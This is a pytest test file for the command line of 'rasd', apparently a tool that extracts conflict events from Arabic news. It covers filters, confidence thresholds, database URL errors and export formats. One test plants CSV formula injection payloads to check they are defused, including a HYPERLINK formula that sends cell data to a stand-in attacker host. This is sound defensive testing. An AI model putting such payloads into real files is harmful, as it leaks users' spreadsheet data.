"""The first hour of a user on the command line (issue 19): `rasd events` without a database,
filters by name and in any case with errors listing the valid values, Arabic actors,
--min-confidence, a closed pipe, bad --db URLs without echoing a password, formula
injection in the CSV, Parquet without pyarrow, --help texts, the demo and ingest summaries."""

from __future__ import annotations

import csv
import json
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from corpus_docs import make_doc
from rasd.cli import build_parser, main
from rasd.store import IngestStats, open_store


def _jsonl(capsys: pytest.CaptureFixture[str]) -> list[dict[str, Any]]:
    return [json.loads(x) for x in capsys.readouterr().out.splitlines()]


def test_cli_events_without_a_database_is_an_error_and_creates_nothing(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv("RASD_DB", raising=False)
    assert main(["events"]) == 2
    err = capsys.readouterr().err
    assert "no database at rasd.db" in err and "rasd ingest" in err
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize(
    ("flag", "value", "expected"),
    [
        ("--country", "IQ", 3), ("--country", "iq", 3), ("--country", "IRQ", 3), ("--country", "Iraq", 3),
        ("--country", "IRAQ", 3), ("--country", "Syria", 0),
        ("--type", "Protests", 1), ("--type", "protests", 1), ("--type", "EXPLOSIONS/REMOTE VIOLENCE", 2),
        ("--type", "battles", 0),
        ("--sub-type", "air/drone strike", 1),
        ("--actor", "islamic state", 1), ("--actor", "داعش", 1), ("--actor", "تنظيم الدولة الإسلامية", 1),
        ("--actor", "الجيش العراقي", 2),
        ("--min-confidence", "0.85", 1), ("--min-confidence", "0.75", 2), ("--min-confidence", "0", 3),
        ("--min-fatalities", "3", 1),
    ],
)
def test_cli_events_filters_by_name_and_any_case(db: str, capsys: pytest.CaptureFixture[str], flag: str, value: str,
                                                 expected: int) -> None:
    assert main(["events", "--db", db, flag, value]) == 0
    assert len(_jsonl(capsys)) == expected


@pytest.mark.parametrize(
    ("flag", "value", "listed"),
    [
        ("--country", "Narnia", "Iraq (IQ)"),
        ("--type", "war", "Explosions/Remote violence"),
        ("--sub-type", "bombing", "Remote explosive/landmine/IED"),
        ("--actor", "جماعة لا يعرفها أحد", "knowledge base"),
    ],
)
def test_cli_events_unknown_filter_values_list_the_valid_ones(db: str, capsys: pytest.CaptureFixture[str], flag: str,
                                                              value: str, listed: str) -> None:
    assert main(["events", "--db", db, flag, value]) == 2
    captured = capsys.readouterr()
    assert listed in captured.err and value in captured.err and captured.out == ""


@pytest.mark.parametrize("value", ["1.5", "-0.1", "high"])
def test_cli_events_min_confidence_must_be_a_probability(db: str, value: str, capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as exc:
        main(["events", "--db", db, "--min-confidence", value])
    assert exc.value.code == 2 and "from 0 to 1" in capsys.readouterr().err


def test_cli_events_csv_has_confidence(db: str, tmp_path: Path) -> None:
    out = tmp_path / "e.csv"
    assert main(["events", "--db", db, "-f", "csv", "-o", str(out)]) == 0
    rows = list(csv.DictReader(out.open(encoding="utf-8", newline="")))
    assert sorted(float(r["confidence"]) for r in rows) == [0.7, 0.8, 0.9]


def test_cli_events_csv_defuses_formula_injection(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'f.db'}"
    payload = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    doc = make_doc("formula", "تظاهر عشرات في الطارمية اليوم.", published="2026-03-10", outlet="@SUM(A1)",
                   events=({"evidence": "تظاهر عشرات", "event_type": "Protests", "sub_event_type": "Peaceful protest",
                            "date": "2026-03-10", "actor1": payload, "actor2": "+1+1", "fatalities": 0,
                            "notes": "-2+3", "confidence": 0.9},))
    store = open_store(url)
    store.add_documents([doc])
    store.close()
    out = tmp_path / "f.csv"
    assert main(["events", "--db", url, "-f", "csv", "-o", str(out)]) == 0
    text = out.read_text(encoding="utf-8")
    rows = list(csv.reader(text.splitlines()))
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or cell.lstrip("-").replace(".", "").isdigit(), cell
    assert "'=HYPERLINK" in text


def _run(args: list[str], **kw: Any) -> subprocess.Popen[bytes]:
    code = "import sys; from rasd.cli import main; sys.exit(main())"
    return subprocess.Popen([sys.executable, "-c", code, *args], stdout=subprocess.PIPE, stderr=subprocess.PIPE, **kw)


def test_cli_events_closed_pipe_is_quiet(db: str) -> None:
    proc = _run(["events", "--db", db, "-f", "csv"])
    assert proc.stdout is not None and proc.stderr is not None
    proc.stdout.close()  # the reader went away before rasd wrote (rasd events | head)
    err = proc.stderr.read().decode()
    assert proc.wait(timeout=120) == 0
    assert err == ""


@pytest.mark.parametrize(
    ("url", "says"),
    [
        ("nonsense://x/y", "unknown database URL scheme 'nonsense'"),
        ("mysql://root@localhost/db", "unknown database URL scheme 'mysql'"),
        ("postgresql://bob:s3cret-pw@127.0.0.1:1/rasd", "postgresql://bob:***@127.0.0.1:1/rasd"),
    ],
)
def test_cli_events_bad_db_urls_are_clear_and_hide_the_password(url: str, says: str,
                                                                 capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["events", "--db", url]) == 2
    err = capsys.readouterr().err
    assert says in err and "plugin" not in err and "s3cret" not in err and "Traceback" not in err


def test_cli_events_parquet_without_pyarrow_is_a_clear_error(db: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                             capsys: pytest.CaptureFixture[str]) -> None:
    import rasd.store.export

    monkeypatch.setattr(rasd.store.export.importlib.util, "find_spec",
                        lambda name, *a: None if name == "pyarrow" else __import__("importlib").util.find_spec(name))
    out = tmp_path / "e.parquet"
    assert main(["events", "--db", db, "-f", "parquet", "-o", str(out)]) == 2
    assert "pip install 'rasd[parquet]'" in capsys.readouterr().err
    assert not out.exists()


@pytest.mark.parametrize("command", ["analyze", "ingest", "events", "batch", "serve", "demo", "eval", "train"])
def test_cli_every_command_has_a_description(command: str) -> None:
    parser = build_parser()
    sub = next(a for a in parser._actions if a.dest == "command")
    p = sub.choices[command]  # type: ignore[attr-defined]
    assert p.description and len(p.description) > 40
    assert all(a.help for a in p._actions if a.dest != "help"), command


def test_cli_demo_help_shows_host_and_port_defaults(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit):
        main(["demo", "--help"])
    out = capsys.readouterr().out
    assert "default: 127.0.0.1" in out and "default: 8000" in out


@pytest.mark.parametrize(
    ("actor1", "actor2", "says"),
    [
        ("Islamic State", "Civilians (Iraq)", "Islamic State against Civilians (Iraq)"),
        (None, "Police Forces of Afghanistan", "against Police Forces of Afghanistan (who acted is not named)"),
        ("Protesters (Palestine)", None, "Protesters (Palestine)"),
        (None, None, ""),
    ],
)
def test_cli_demo_summary_names_the_sides(actor1: str | None, actor2: str | None, says: str) -> None:
    from rasd.commands.demo import _actors

    assert _actors(actor1, actor2) == says
    assert "unidentified vs" not in _actors(actor1, actor2)


@pytest.mark.parametrize(
    ("stats", "says"),
    [
        (IngestStats(articles=300, added=296, duplicates=3, near_duplicates=5, errors=1, events=40, new_events=30,
                     merged_events=10),
         "300 articles: 296 new (5 of them near-duplicates of a known story), 3 already stored, 1 error; "
         "40 event reports -> 30 new events, 10 merged into known events"),
        (IngestStats(articles=1, added=1, events=1, new_events=1),
         "1 article: 1 new, 0 already stored, 0 errors; 1 event report -> 1 new event, 0 merged into known events"),
    ],
)
def test_cli_ingest_summary_adds_up(stats: IngestStats, says: str) -> None:
    assert stats.summary() == says
    assert stats.added + stats.duplicates + stats.errors == stats.articles


def test_cli_demo_leaves_no_wal_files_and_plain_wording(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                        capsys: pytest.CaptureFixture[str]) -> None:
    monkeypatch.chdir(tmp_path)
    assert main(["demo", "--no-serve"]) == 0
    out = capsys.readouterr().out
    assert sorted(p.name for p in tmp_path.iterdir()) == ["rasd-demo.db"]
    assert "unidentified vs" not in out
    for word in ("sentences", "entities", "quotes", "dates", "places", "debris lines", "errors"):
        assert f" 1 {word}" not in out, word
    ignored = (Path(__file__).resolve().parents[1] / ".gitignore").read_text(encoding="utf-8").split()
    assert "rasd-demo.db" in ignored and "rasd-demo.db-*" in ignored


@pytest.mark.parametrize(("threshold", "at_least"), [(None, 0.0), ("0.8", 0.8), ("1", 1.0)])
def test_cli_analyze_and_ingest_min_confidence(raqqa_raw: str, tmp_path: Path, capsys: pytest.CaptureFixture[str],
                                               threshold: str | None, at_least: float) -> None:
    article = tmp_path / "raqqa-2017-10-15.txt"
    article.write_text(raqqa_raw, encoding="utf-8")
    flag = ["--min-confidence", threshold] if threshold else []
    assert main(["analyze", str(article), *flag]) == 0
    events = json.loads(capsys.readouterr().out)["events"]
    assert all(e["confidence"] >= at_least for e in events)
    url = f"sqlite:///{tmp_path / 'i.db'}"
    assert main(["ingest", str(article), "--db", url, "--workers", "1", "--quiet", *flag]) == 0
    store = open_store(url)
    stored = store.list_events(limit=None)
    store.close()
    assert len(stored) == len(events)
    assert all(e["confidence"] >= at_least for e in stored)
    if threshold is None:
        assert any(e["confidence"] < 0.8 for e in events)  # the threshold has something to drop
